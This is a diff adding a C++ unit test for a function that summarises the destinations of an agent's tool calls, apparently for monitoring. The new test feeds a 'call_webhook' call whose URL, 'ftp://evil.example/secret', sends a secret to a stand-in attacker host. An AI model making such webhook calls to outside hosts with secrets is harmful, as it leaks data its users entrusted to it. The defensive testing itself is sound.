@@ -36,6 +36,11 @@ TEST(Intent, OfACallWithDestinations) {
     "arguments":[{"name":"url","type":"string","bytes":38},{"name":"body","type":"object","members":1}]})"));
 }
 
+TEST(Intent, OfAnotherSchemeNamesIt) {
+  EXPECT_EQ(*intent("call_webhook", R"({"url":"ftp://evil.example/secret"})").find("destinations"),
+            json_of(R"([{"argument":"url","kind":"url","scheme":"ftp"}])"));
+}
+
 TEST(Intent, OfPathsIsTheirLength) {
   EXPECT_EQ(*intent("read_file", R"({"path":"/srv/office/shelf/secret"})").find("destinations"),
             json_of(R"([{"argument":"path","kind":"path","bytes":24}])"));
